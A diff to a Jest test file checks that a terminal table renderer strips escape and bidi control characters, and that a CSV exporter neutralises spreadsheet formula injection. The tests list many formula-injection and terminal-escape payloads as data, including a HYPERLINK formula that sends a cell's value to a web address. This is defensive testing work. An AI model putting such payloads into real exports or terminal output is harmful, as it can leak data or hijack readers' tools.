@@ -1,4 +1,5 @@
 import { describe, expect, it } from '@jest/globals';
+import { parse } from 'csv-parse/sync';
 import { renderCsv } from './render-csv.ts';
 import { renderText, widthOf } from './render-text.ts';
 import { figureColumn, type Table, textColumn } from './table.ts';
@@ -65,6 +66,12 @@ describe('a table on a terminal', () => {
     ]);
   });
 
+  it('lets no name from outside act on the terminal of the reader', () => {
+    const text = renderText(table([{ project_code: 'P01', name: 'a\u001b[2Jb\u202ec' }], ['note\u0007']));
+    expect(text).toContain('a\ufffd[2Jb\ufffdc');
+    expect(text).not.toMatch(/[\u001b\u0007\u202e]/);
+  });
+
   it('says when there is nothing', () => {
     expect(renderText(table([]))).toContain('(nothing)');
   });
@@ -76,11 +83,42 @@ describe('a table as CSV', () => {
     expect(renderCsv(table(rows))).toBe('project_code,name,spent_m\nP04,"a,""b""\nc",-0.7137\nP05,,\n');
   });
 
-  it.each(['=1+1', '+1', '-1', '@x', '\tx', '\rx'])(
-    'lets no spreadsheet take the text %j for a formula',
+  it.each([
+    '=1+1',
+    '+1',
+    '-1',
+    '@x',
+    '\tx',
+    '\rx',
+    '\nx',
+    '＝1+1',
+    '－1',
+    ' =1+1',
+    '\u00a0=1+1',
+    '\ufeff=1+1',
+    '\u0000=1+1',
+    '\t@SUM(1)',
+    '=HYPERLINK("https://example.org/?"&A1,"open")',
+  ])('lets no spreadsheet take the text %j for a formula', (name) => {
+    const [header, row, ...more] = parse(renderCsv(table([{ project_code: 'P01', name }])));
+    expect(more).toEqual([]);
+    expect(header).toEqual(['project_code', 'name', 'spent_m']);
+    expect(row).toEqual(['P01', `'${name}`, '']);
+  });
+
+  it.each(['P-01', 'ก=ข', '100 %', "'quoted'", 'a\r=1', 'a\n=1', 'x,=1', 'x";=1', 'ปิ่น', ' indented'])(
+    'leaves the text %j as it is, in one cell',
     (name) => {
-      const [, line = ''] = renderCsv(table([{ project_code: 'P01', name }])).split('\nP01,');
-      expect(line.replace(/^"/, '').startsWith("'")).toBe(true);
+      const [, row] = parse(renderCsv(table([{ project_code: 'P01', name }])));
+      expect(row).toEqual(['P01', name, '']);
     },
   );
+
+  it('leaves negative amounts plain figures, and trusts no other content of their columns', () => {
+    const printed = ['-0.7137', '0.0000', '-5', '1805', '-1+cmd', '=1', '+5', '-'].map((spent_m) => {
+      const [, row] = parse(renderCsv(table([{ project_code: 'P01', spent_m }])));
+      return row?.[2];
+    });
+    expect(printed).toEqual(['-0.7137', '0.0000', '-5', '1805', "'-1+cmd", "'=1", "'+5", "'-"]);
+  });
 });
